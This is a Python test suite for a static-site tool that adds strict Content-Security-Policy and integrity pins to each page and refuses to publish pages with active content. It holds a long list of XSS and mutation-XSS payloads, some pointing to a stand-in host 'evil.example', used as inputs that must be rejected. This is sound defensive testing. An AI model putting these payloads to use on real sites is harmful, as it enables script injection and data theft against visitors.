"""Each page carries the strictest policy, and none is published that would need more."""

import base64
import hashlib
import re
from html import unescape

import pytest
from selectolax.lexbor import LexborHTMLParser

from casefile.site.active import read_clean
from casefile.site.policy import (
    TRUSTED_TYPES,
    Kit,
    Need,
    PolicyError,
    integrity_of,
    judge_page,
    protect_page,
)

INLINE = 'document.body.className="js"'
THEME = (
    '<!doctype html>\n<html lang="en" class="no-js">\n<head>\n<meta charset="utf-8">\n'
    '<link rel="stylesheet" href="../assets/site.css">{head}</head><body dir="ltr">'
    '<form class="palette" data-md-component="palette"><input type="radio" name="x"></form>'
    "<script>" + INLINE + '</script><main>{body}</main><script src="../assets/theme.js"></script>'
    "</body></html>"
)
CSS, JS = integrity_of(b"body{}"), integrity_of(b"0")
KIT = Kit(
    clean=read_clean([THEME.format(head="", body="").encode()]),
    ours={"assets/site.css": CSS, "assets/theme.js": JS},
)


def page(body: str = "", head: str = "") -> bytes:
    return THEME.format(head=head, body=body).encode()


def protect(data: bytes, kit: Kit = KIT, path: str = "a/index.html") -> str:
    return protect_page(path, data, judge_page(path, data, kit), kit).decode()


def policy_of(text: str) -> dict[str, str]:
    node = LexborHTMLParser(text).css_first('meta[http-equiv="Content-Security-Policy"]')
    assert node is not None
    parts = (part.strip().partition(" ") for part in node.attributes["content"].split(";"))
    return {name: value for name, _, value in parts}


def source(text: str) -> str:
    return f"'sha256-{base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()}'"


def test_a_page_may_do_what_the_theme_does_and_nothing_else() -> None:
    assert policy_of(protect(page())) == {
        "default-src": "'none'",
        "script-src": f"{source(TRUSTED_TYPES)} {source(INLINE)} '{JS}'",
        "style-src": "'self'",
        "img-src": "'self' data:",
        "manifest-src": "'self'",
        "base-uri": "'none'",
        "form-action": "'none'",
        "trusted-types": "default",
        "require-trusted-types-for": "'script'",
    }


def test_the_policy_comes_before_anything_that_it_is_about() -> None:
    nodes = LexborHTMLParser(protect(page())).css("head > *")
    first = [(node.tag, node.attributes) for node in nodes[:4]]
    assert first[0] == ("meta", {"charset": "utf-8"})
    assert first[1][1]["http-equiv"] == "Content-Security-Policy"
    assert first[2] == ("meta", {"name": "referrer", "content": "no-referrer"})
    assert first[3] == ("script", {})
    assert nodes[3].text() == TRUSTED_TYPES


def test_scripts_and_styles_are_pinned_to_their_bytes() -> None:
    tree = LexborHTMLParser(protect(page()))
    pinned = {node.attributes.get("integrity") for node in tree.css("script[src], link[href]")}
    assert pinned == {CSS, JS}


def test_nothing_else_of_the_page_is_touched() -> None:
    data = page("<p>a script src=&quot;x&quot; &amp; <b>more</b></p>")
    text = protect(data)
    text = text.replace(f' integrity="{CSS}"', "").replace(f' integrity="{JS}"', "")
    start, _, rest = text.partition('<meta http-equiv="Content')
    end = rest.partition("</script>")[2]
    assert (start + end).encode() == data


def test_pages_before_and_after_are_not_announced_to_browsers_that_would_fetch_them() -> None:
    head = '<link rel="prev" href="../b/"><link rel="next" href="../c/">'
    assert protect(page(head=head)) == protect(page())


def test_one_page_is_protected_alike_each_time() -> None:
    assert protect(page("<p>x</p>")) == protect(page("<p>x</p>"))


def test_a_page_at_any_address_finds_its_files_from_the_root_of_the_site() -> None:
    missing = page().replace(b"../assets", b"/campaign/assets")
    kit = Kit(clean=KIT.clean, ours=KIT.ours, base="/campaign/")
    assert f'src="/campaign/assets/theme.js" integrity="{JS}"' in protect(missing, kit, "404.html")
    with pytest.raises(PolicyError, match="which is not the theme's"):
        protect(missing, KIT, "404.html")


SEARCH = Need(
    script="assets/search.js",
    module="pagefind/pagefind.js",
    directives={"connect-src": "'self'", "worker-src": "'self'"},
    why="It reads an index.",
)


def test_a_page_type_gets_what_its_script_needs_and_others_do_not() -> None:
    ours = {**KIT.ours, "assets/search.js": "sha384-search", "pagefind/pagefind.js": "sha384-find"}
    kit = Kit(clean=KIT.clean, ours=ours, needs=[SEARCH])
    assert policy_of(protect(page(), kit)) == policy_of(protect(page()))
    text = protect(page('<script type="module" src="../assets/search.js"></script>'), kit)
    policy = policy_of(text)
    assert policy["connect-src"] == policy["worker-src"] == "'self'"
    found = re.search(r'<script type="importmap">(.*?)</script>', text)
    assert found is not None
    assert found[1] == '{"integrity":{"../pagefind/pagefind.js":"sha384-find"}}'
    assert {source(found[1]), "'sha384-search'", "'sha384-find'"} <= {*policy["script-src"].split()}
    assert "unsafe" not in unescape(text)


HARMLESS = [
    '<a href="https://a.org/?q=javascript:">x</a> <a href="mailto:a@b.org">y</a>',
    '<a href="#z" id="z">z</a>',
    '<a href="../b/" hreflang="ja" lang="ja" rel="noreferrer">x</a>',
    '<img src="../b/c.webp" alt="A ship" width="3" height="4" loading="lazy">',
    '<img src="d.png" srcset="d.png 1x, ../e.png 2x" alt="">',
    "<pre><code>&lt;script&gt;alert(1)&lt;/script&gt; onclick=1 javascript:alert(1)</code></pre>",
    '<p title="<script>" data-note="onerror=1" aria-label="style=x">style="color: red"</p>',
    '<script type="application/ld+json">{"@type": "Article", "x": "<!-- <b>"}</script>',
    '<svg viewBox="0 0 1 1"><title>x</title><path fill="url(#a)" d="M0"/>'
    '<g transform="translate(1, 2)"><circle r="1"/></g></svg>',
    '<button type="button" popovertarget="m" hidden>Menu</button><nav id="m" popover></nav>',
]


@pytest.mark.parametrize("body", HARMLESS)
def test_what_cannot_act_is_published(body: str) -> None:
    assert body in protect(page(body))


ACTIVE = {
    "<script>alert(1)</script>": "an inline script that is not the theme's",
    "<ScRiPt >alert(1)</sCrIpT >": "an inline script that is not the theme's",
    f"<script>{INLINE};</script>": "an inline script that is not the theme's",
    f"<script>{TRUSTED_TYPES}</script>": "an inline script that is not the theme's",
    '<script type="module">1</script>': "an inline script that is not the theme's",
    '<script type="importmap">{}</script>': "an inline script that is not the theme's",
    '<script type="speculationrules">{}</script>': "an inline script that is not the theme's",
    '<script src="https://evil.example/x.js"></script>': 'the script "https://evil.example/x.js"',
    '<script src="//evil.example/assets/theme.js"></script>': "the script",
    '<script src="\\\\evil.example/assets/theme.js"></script>': "the script",
    '<script src="own.js"></script>': 'the script "own.js", which is not the theme\'s',
    '<script src="../assets/site.css"></script>': 'the script "../assets/site.css"',
    '<script src="data:,alert(1)"></script>': 'the script "data:,alert(1)"',
    '<script src="../assets/theme.js" onload="x()"></script>': "the event handler onload",
    '<script src="../assets/theme.js" crossorigin></script>': 'crossorigin="" of <script>',
    "<svg><script>alert(1)</script></svg>": "an inline script that is not the theme's",
    '<svg><script href="data:,1"/></svg>': 'the attribute href="data:,1" of <script>',
    '<p onclick="alert(1)">x</p>': "the event handler onclick of <p>",
    "<img src=x/onerror=alert(1) OnErRoR=alert(1)>": "the event handler onerror of <img>",
    "<svg/onload=alert(1)>": "the event handler onload of <svg>",
    "<details open ontoggle=alert(1)>x</details>": "the event handler ontoggle of <details>",
    "<body onload=alert(1)>": "the event handler onload of <body>",
    "<html onpageshow=alert(1)>": "the event handler onpageshow of <html>",
    '<a href="javascript:alert(1)">x</a>': 'the address "javascript:alert(1)" of <a>',
    '<a href=" JaVa&#10;ScRiPt&colon;alert(1)">x</a>': "the address",
    '<a href="&#1;javascript:alert(1)">x</a>': "the address",
    '<a href="data:text/html,<script>1</script>">x</a>': 'the address "data:text/html',
    '<a href="vbscript:x">x</a>': 'the address "vbscript:x" of <a>',
    '<a href="file:///etc/passwd">x</a>': 'the address "file:///etc/passwd" of <a>',
    '<a href="blob:https://a.org/1">x</a>': 'the address "blob:https://a.org/1" of <a>',
    '<a href="../b/" ping="https://evil.example">x</a>': "the attribute ping of <a>",
    '<svg><a xlink:href="javascript:1">x</a></svg>': "the attribute xlink:href of <a>",
    '<iframe src="https://evil.example"></iframe>': "the element <iframe>",
    '<iframe srcdoc="<script>1</script>"></iframe>': "the element <iframe>",
    '<object data="x.swf"></object>': "the element <object>",
    '<embed src="x.swf">': "the element <embed>",
    '<applet code="X"></applet>': "the element <applet>",
    '<form action="https://evil.example"><input name="q"></form>': "the element <form>",
    "<form><button>Send</button></form>": "the element <form>",
    '<button formaction="https://evil.example">x</button>': "the attribute formaction of <button>",
    '<input type="image" src="https://evil.example/x.png">': "the attribute src of <input>",
    '<base href="https://evil.example/">': "the element <base>",
    '<meta http-equiv="refresh" content="0; url=https://evil.example">': 'http-equiv="refresh"',
    '<meta http-equiv="Content-Security-Policy" content="x">': "http-equiv",
    '<meta name="referrer" content="unsafe-url">': 'a <meta> with name="referrer"',
    '<img src="https://evil.example/x.png" alt="">': 'a <img> from "https://evil.example/x.png"',
    '<img src="//evil.example/x.png" alt="">': 'a <img> from "//evil.example/x.png"',
    '<img src="/\\evil.example/x.png" alt="">': "a <img> from",
    '<img src="data:image/svg+xml,<svg>" alt="">': 'a <img> from "data:',
    '<img src="a.png" srcset="a.png 1x, https://evil.example/b.png 2x">': "a <img> from",
    '<img src="../../../a.png" alt="">': 'a <img> from "../../../a.png"',
    '<picture><source srcset="//evil.example/a"></picture>': "a <source> from",
    '<video src="https://evil.example/x.mp4"></video>': "the element <video>",
    '<audio src="https://evil.example/x.mp3"></audio>': "the element <audio>",
    '<p style="background: url(https://evil.example)">x</p>': "an inline style of <p>",
    "<style>@import url(https://evil.example)</style>": "the element <style>",
    "<svg><style>*{}</style></svg>": "the element <style>",
    '<body background="https://evil.example/x.png">': "the attribute background of <body>",
    '<link rel="stylesheet" href="https://evil.example/x.css">': "the style sheet",
    '<link rel="alternate stylesheet" href="x.css">': 'the style sheet "x.css"',
    '<link rel="prefetch" href="../b/">': 'a <link> with rel="prefetch"',
    '<link rel="PRELOAD" as="script" href="../b/">': 'a <link> with rel="preload"',
    '<link rel="prerender" href="../b/">': 'a <link> with rel="prerender"',
    '<link rel="modulepreload" href="x.js">': 'a <link> with rel="modulepreload"',
    '<link rel="dns-prefetch" href="//evil.example">': 'a <link> with rel="dns-prefetch"',
    '<link rel="preconnect" href="//evil.example">': 'a <link> with rel="preconnect"',
    "<link rel=next href=../c/>": 'a <link> with rel="next"',
    '<link rel="icon" href="https://evil.example/x.png">': "a <link> to",
    '<link rel="manifest" href="https://evil.example/x.json">': "a <link> to",
    '<svg><image href="https://evil.example/x.png"/></svg>': "the element <image>",
    '<svg><use href="https://evil.example/x.svg#a"/></svg>': "the element <use>",
    '<svg><use xlink:href="data:image/svg+xml,x#a"/></svg>': "the element <use>",
    '<svg><animate attributeName="href" to="javascript:1"/></svg>': "the element <animate>",
    '<svg><set attributeName="onclick" to="1"/></svg>': "the element <set>",
    "<svg><foreignObject><p>x</p></foreignObject></svg>": "the element <foreignObject>",
    '<svg><rect fill="url(https://evil.example/x.svg#a)"/></svg>': "the attribute fill of <rect>",
    '<svg><rect mask="u\\72l(//evil.example)"/></svg>': "the attribute mask of <rect>",
    "<svg><rect cursor=\"image-set('//evil.example')\"/></svg>": "the attribute cursor of <rect>",
    '<math><mtext><a xlink:href="javascript:1">x</a></mtext></math>': "the element <math>",
    "<template><img src=x onerror=alert(1)></template>": "the element <template>",
    "<div><template shadowrootmode=open><script>1</script></template></div>": "<template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>': "<noscript>",
    "<select><img src=x onerror=alert(1)></select>": "the element <select>",
    "<textarea><img src=x onerror=alert(1)></textarea>": "the element <textarea>",
    "<xmp><p></xmp>": "the element <xmp>",
    "<plaintext>": "the element <plaintext>",
    "<marquee onstart=alert(1)>x</marquee>": "the element <marquee>",
    "<x-card onclick=alert(1)>x</x-card>": "the element <x-card>",
    "<!--><script>alert(1)</script>-->": "an inline script that is not the theme's",
    "<p><![CDATA[><script>alert(1)</script>]]></p>": "an inline script that is not the theme's",
    '<a title="" onmouseover="x" title="">x</a>': "the event handler onmouseover of <a>",
    "<a/href=javascript:alert(1)>x</a>": "the address",
}


@pytest.mark.parametrize("body", ACTIVE)
@pytest.mark.parametrize("where", ["body", "head"])
def test_what_could_act_is_never_published(body: str, where: str) -> None:
    with pytest.raises(PolicyError) as caught:
        protect(page(**{where: body}))
    told = str(caught.value)
    assert told.startswith("a/index.html: the page needs what no page of this site may have: ")
    assert ACTIVE[body] in told
    assert "\n" not in told


def test_all_that_is_wrong_with_a_page_is_one_sentence() -> None:
    with pytest.raises(PolicyError) as caught:
        protect(page('<p onclick="x" style="y">a</p><p onclick="x">b</p><iframe></iframe>'))
    assert str(caught.value) == (
        "a/index.html: the page needs what no page of this site may have: "
        "the event handler onclick of <p>, an inline style of <p> and the element <iframe>"
    )


@pytest.mark.parametrize(
    "data",
    [
        b"<h1>No head</h1>",
        b"<!-- x -->" + page(),
        page().replace(b'<meta charset="utf-8">', b'<meta charset="utf-7">'),
        page().replace(b"<head>", b"<head><script>1</script>"),
        page().replace(b'lang="en"', b'lang="<head>"'),
        page("\0"),
        page().decode().encode("utf-16"),
        page("caf").replace(b"caf", b"caf\xe9"),
    ],
)
def test_a_page_that_could_be_read_in_two_ways_is_not_published(data: bytes) -> None:
    with pytest.raises(PolicyError):
        protect(data)
